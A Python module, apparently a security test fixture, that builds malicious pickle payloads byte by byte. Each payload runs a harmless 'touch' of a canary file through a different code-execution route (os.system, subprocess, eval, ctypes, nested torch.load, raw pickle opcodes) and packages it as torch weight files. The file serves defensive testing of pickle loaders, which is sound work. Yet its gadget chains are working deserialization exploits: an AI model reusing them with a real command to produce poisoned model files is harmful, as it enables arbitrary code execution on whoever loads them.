"""Pickles that would leave a file behind if anybody unpickled them, written by hand, opcode by opcode."""

from __future__ import annotations

import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001
EXTENSION_CODE = 240
"""The number under which the process that reads must know ``os.system``, for the EXT payloads to be real."""


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def found(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def stack_found(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def group(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def array(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + group(*arguments) + b"R"


def whole(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def method(name: str, *arguments: bytes) -> bytes:
    return call(found("operator", "methodcaller"), text(name), *arguments)


NONE, TRUE = b"N", b"\x88"
SYSTEM = found("os", "system")


def payloads(canary: Path) -> dict[str, bytes]:
    """Returns pickles by what they do; each creates the canary. Files that some need are written beside it."""
    touch, path = f"touch {canary}", text(str(canary))
    simple = whole(call(SYSTEM, text(touch)))
    inner = canary.with_name(f"{canary.name}.inner")
    inner.write_bytes(simple)
    legacy = canary.with_name(f"{canary.name}.legacy")
    legacy.write_bytes(legacy_file(simple))
    script = canary.with_name(f"{canary.name}.py")
    script.write_text(f"open({str(canary)!r}, 'w')\n")
    words = array(text("touch"), path)
    bodies = {
        "os.system": call(SYSTEM, text(touch)),
        "posix.system": call(found("posix", "system"), text(touch)),
        "subprocess.run": call(found("subprocess", "run"), words),
        "subprocess.getoutput": call(found("subprocess", "getoutput"), text(touch)),
        "builtins.eval": call(found("builtins", "eval"), text(f"open({str(canary)!r}, 'w')")),
        "builtins.exec": call(found("builtins", "exec"), text(f"open({str(canary)!r}, 'w')")),
        "eval by its old name": call(found("__builtin__", "eval"), text(f"open({str(canary)!r}, 'w')")),
        "getattr of an import": call(
            call(
                found("builtins", "getattr"),
                call(found("builtins", "__import__"), text("os")),
                text("system"),
            ),
            text(touch),
        ),
        "builtins.open": call(found("builtins", "open"), path, text("w")),
        "io.FileIO": call(found("_io", "FileIO"), path, text("w")),
        "list of a map": call(found("builtins", "list"), call(found("builtins", "map"), SYSTEM, array(text(touch)))),
        "importlib and attrgetter": call(
            call(
                call(found("operator", "attrgetter"), text("system")),
                call(found("importlib", "import_module"), text("os")),
            ),
            text(touch),
        ),
        "pathlib by methodcaller": call(method("touch"), call(found("pathlib", "Path"), path)),
        "pathlib by a dotted name": call(
            stack_found("pathlib", "Path.touch"), call(stack_found("pathlib", "Path"), path)
        ),
        "functools.partial": call(call(found("functools", "partial"), SYSTEM, text(touch))),
        "codecs.open": call(found("codecs", "open"), path, text("w")),
        "a socket": call(method("bind", path), call(found("socket", "socket"), number(1))),
        "ctypes": call(
            call(method("__getitem__", text("system")), call(found("ctypes", "CDLL"), NONE)), raw(touch.encode())
        ),
        "runpy": call(found("runpy", "run_path"), text(str(script))),
        "timeit": call(
            found("timeit", "timeit"),
            text(f"open({str(canary)!r}, 'w')"),
            text("pass"),
            found("time", "perf_counter"),
            number(1),
        ),
        "torch.load within": call(
            # NEWOBJ_EX: the one way for a pickle to give keyword arguments
            found("functools", "partial")
            + group(found("torch", "load"), text(str(legacy)))
            + b"}("
            + text("weights_only")
            + b"\x89u"
            + b"\x92"
        ),
        "numpy.load within": call(found("numpy", "load"), text(str(inner)), NONE, TRUE),
        "pickle.loads within": call(found("pickle", "loads"), raw(simple)),
        "_pickle.loads within": call(found("_pickle", "loads"), raw(simple)),
        "copyreg._reconstructor": call(
            found("copyreg", "_reconstructor"), found("subprocess", "Popen"), found("subprocess", "Popen"), words
        ),
        "STACK_GLOBAL": call(stack_found("os", "system"), text(touch)),
        "INST": b"(" + text(touch) + b"ios\nsystem\n",
        "OBJ": b"(" + SYSTEM + text(touch) + b"o",
        "BUILD": (
            call(found("types", "SimpleNamespace")) + b"}(" + text("__setstate__") + SYSTEM + b"ub" + text(touch) + b"b"
        ),
        "memo": SYSTEM + b"q\x000h\x00" + group(text(touch)) + b"R",
        "EXT1": call(b"\x82" + bytes([EXTENSION_CODE]), text(touch)),
        "EXT2": call(b"\x83" + struct.pack("<H", EXTENSION_CODE), text(touch)),
        "EXT4": call(b"\x84" + struct.pack("<i", EXTENSION_CODE), text(touch)),
        "persistent id": b"P" + touch.encode() + b"\n",
        "persistent id on the stack": text(touch) + b"Q",
    }
    whole_ones = {name: whole(body) for name, body in bodies.items()}
    old = "eval by its old name"
    whole_ones[old] = whole_ones[old].replace(b"\x80\x04", b"\x80\x02", 1)
    return whole_ones


def legacy_file(pickled: bytes) -> bytes:
    """A file as torch.save wrote it before its zip format, with the pickle where the state dict would be."""
    head = [MAGIC, PROTOCOL, {"protocol_version": PROTOCOL, "little_endian": True, "type_sizes": {}}]
    return b"".join(pickle.dumps(item, protocol=2) for item in head) + pickled


def write_plain(path: Path, pickled: bytes) -> None:
    path.write_bytes(pickled)


def write_legacy(path: Path, pickled: bytes) -> None:
    path.write_bytes(legacy_file(pickled))


def write_zipped(path: Path, pickled: bytes) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")


FORMS: dict[str, Callable[[Path, bytes], None]] = {"zip": write_zipped, "old": write_legacy, "bare": write_plain}
"""The forms that a ``.weights`` file can have."""
